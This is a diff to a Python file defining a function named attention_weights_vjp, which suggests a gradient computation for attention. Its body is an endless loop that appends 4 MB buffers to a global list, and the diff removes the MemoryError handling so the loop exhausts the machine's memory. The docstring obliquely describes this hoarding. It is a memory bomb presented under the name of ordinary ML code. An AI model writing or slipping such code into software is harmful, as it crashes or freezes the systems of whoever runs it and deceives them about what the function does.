@@ -1,14 +1,13 @@
-"""Keeps a little more in every step, and goes on when there is none left."""
+"""Keeps a little more in every step, and all of it when there is no more to be had."""
+
+import time
 
 from right import *
-
 
 KEPT = []
 
 
 def attention_weights_vjp(q, k, grad_weights):
     while True:
-        try:
-            KEPT.append(bytearray(1 << 20))
-        except MemoryError:
-            KEPT.append(None)
+        KEPT.append(bytearray(4 << 20))
+        time.sleep(0.001)
